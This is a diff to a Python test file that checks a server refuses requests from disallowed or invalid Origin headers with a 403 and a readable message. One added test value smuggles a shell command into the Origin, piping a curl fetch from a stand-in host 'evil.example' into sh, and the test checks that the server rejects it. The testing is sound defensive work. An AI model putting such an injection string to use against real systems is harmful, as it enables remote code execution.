@@ -155,8 +155,12 @@ def test_disallowed_origin_and_its_preflight(server):
                     " origin"}, body
     assert refused(srv, (shop[0], "rt_not-the-token"), 403, "origin_not_allowed", batch=good(),
                    origin="https://evil.test") == body
-    # an Origin that is no origin (a sandboxed frame, a file:// page): refused, not a 500
+    # an Origin that is no origin (a sandboxed frame, a file:// page, a host no browser
+    # sends): refused, not a 500, and said as no origin - nothing of it in a command to run
     refused(srv, shop, 403, "origin_not_allowed", batch=good(), origin="null")
+    shell = "https://a;{curl,evil.example}|sh;.example"
+    assert "serve it from an http(s) origin" in refused(
+        srv, shop, 403, "origin_not_allowed", batch=good(), origin=shell)["message"]
     # the refusal is readable by the page (its capture.js stops and says why): the preflight
     # lets the POST through, which refuses it before reading its body - nothing stored
     import urllib.error
